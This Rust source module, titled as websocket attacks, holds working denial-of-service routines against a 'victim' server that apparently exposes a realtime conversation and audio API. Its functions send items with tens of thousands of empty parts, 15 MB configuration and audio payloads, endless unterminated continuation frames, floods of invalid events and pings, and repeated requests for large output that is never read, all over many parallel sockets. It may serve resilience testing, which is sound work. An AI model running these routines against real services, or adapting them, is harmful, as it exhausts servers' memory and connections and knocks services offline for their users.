//! Attacks over websockets: items, events and control frames.

use std::io::{Read as _, Write as _};
use std::thread;
use std::time::Duration;

use anyhow::Result;

use super::victim::{CONTINUATION, PING, TEXT, Victim, drain, frame, list};

/// Largest event with audio, in bytes.
const LARGE: usize = 15 << 20;

/// Sends an event again and again on each of `sockets` websockets, and reads all answers.
fn repeat_event(victim: &Victim, sockets: usize, first: &str, event: &str) -> Result<()> {
    let victim = victim.with_ephemeral_key()?;
    let (first, event) = (frame(TEXT, first.as_bytes()), frame(TEXT, event.as_bytes()));
    victim.repeat(sockets, |victim, _| {
        let mut socket = victim.websocket()?;
        drain(&socket)?;
        socket.write_all(&first)?;
        while !victim.is_over() {
            socket.write_all(&event)?;
        }
        Ok(())
    });
    Ok(())
}

/// Items of some ten thousand empty parts.
pub fn empty_parts(victim: &Victim) -> Result<()> {
    let parts = list(r#"{"type":"text","text":""}"#, 40_000);
    let item = format!(r#"{{"type":"message","role":"assistant","content":[{parts}]}}"#);
    repeat_event(victim, 2, "{}", &format!(r#"{{"type":"conversation.item.create","item":{item}}}"#))
}

/// Configurations of 15 MB of tiny values in unknown fields.
pub fn large_updates(victim: &Victim) -> Result<()> {
    let zeros = list("0", LARGE / 2 - 200);
    repeat_event(
        victim,
        2,
        "{}",
        &format!(r#"{{"type":"session.update","session":{{"type":"realtime","x":[{zeros}]}}}}"#),
    )
}

/// Appends of 15 MB of mu-law: half an hour of audio each.
pub fn large_appends(victim: &Victim) -> Result<()> {
    let ulaw = r#"{"type":"session.update","session":{"type":"realtime","audio":{"input":{"turn_detection":null,"format":{"type":"audio/pcmu"}}}}}"#;
    let audio = "A".repeat(LARGE - 1_000);
    repeat_event(victim, 8, ulaw, &format!(r#"{{"type":"input_audio_buffer.append","audio":"{audio}"}}"#))
}

/// Messages of single bytes, each in a frame of its own, that never end.
pub fn tiny_frames(victim: &Victim) -> Result<()> {
    let victim = victim.with_ephemeral_key()?;
    let begin = frame(TEXT, b"{");
    // Without the bit of a message's end and with the opcode of a continuation.
    let mut rest = frame(CONTINUATION, b" ");
    rest[0] &= 0x7f;
    let rest = rest.repeat(5_000);
    victim.repeat(8, |victim, _| {
        let mut socket = victim.websocket()?;
        drain(&socket)?;
        let mut begin = begin.clone();
        begin[0] &= 0x7f;
        socket.write_all(&begin)?;
        while !victim.is_over() {
            socket.write_all(&rest)?;
        }
        Ok(())
    });
    Ok(())
}

/// Messages of a few bytes, each of them answered by an error that is read.
pub fn tiny_events(victim: &Victim) -> Result<()> {
    let victim = victim.with_ephemeral_key()?;
    let events = frame(TEXT, br#"{"type":"a"}"#).repeat(200);
    victim.repeat(4, |victim, _| {
        let mut socket = victim.websocket()?;
        drain(&socket)?;
        while !victim.is_over() {
            socket.write_all(&events)?;
        }
        Ok(())
    });
    Ok(())
}

/// Pings whose pongs are hardly read: some at times, so that the socket does not look stalled.
pub fn unread_pongs(victim: &Victim) -> Result<()> {
    let victim = victim.with_ephemeral_key()?;
    let pings = frame(PING, &[b'x'; 125]).repeat(800);
    victim.repeat(4, |victim, _| {
        let mut socket = victim.websocket()?;
        let mut reader = socket.try_clone()?;
        thread::spawn(move || {
            let mut buffer = vec![0; 3 << 20];
            while matches!(reader.read(&mut buffer), Ok(1..)) {
                thread::park_timeout(Duration::from_secs(2));
            }
        });
        while !victim.is_over() {
            socket.write_all(&pings)?;
        }
        Ok(())
    });
    Ok(())
}

/// Large items that are asked for again and again, and never read.
pub fn unread_output(victim: &Victim) -> Result<()> {
    let victim = victim.with_ephemeral_key()?;
    let content = format!(r#"[{{"type":"input_text","text":"{}"}}]"#, "a ".repeat(100_000));
    let item = format!(r#"{{"id":"large","type":"message","role":"user","content":{content}}}"#);
    let create = frame(TEXT, format!(r#"{{"type":"conversation.item.create","item":{item}}}"#).as_bytes());
    let retrieve = frame(TEXT, br#"{"type":"conversation.item.retrieve","item_id":"large"}"#).repeat(100);
    victim.repeat(16, |victim, _| {
        let mut socket = victim.websocket()?;
        socket.write_all(&create)?;
        while !victim.is_over() {
            socket.write_all(&retrieve)?;
        }
        Ok(())
    });
    Ok(())
}
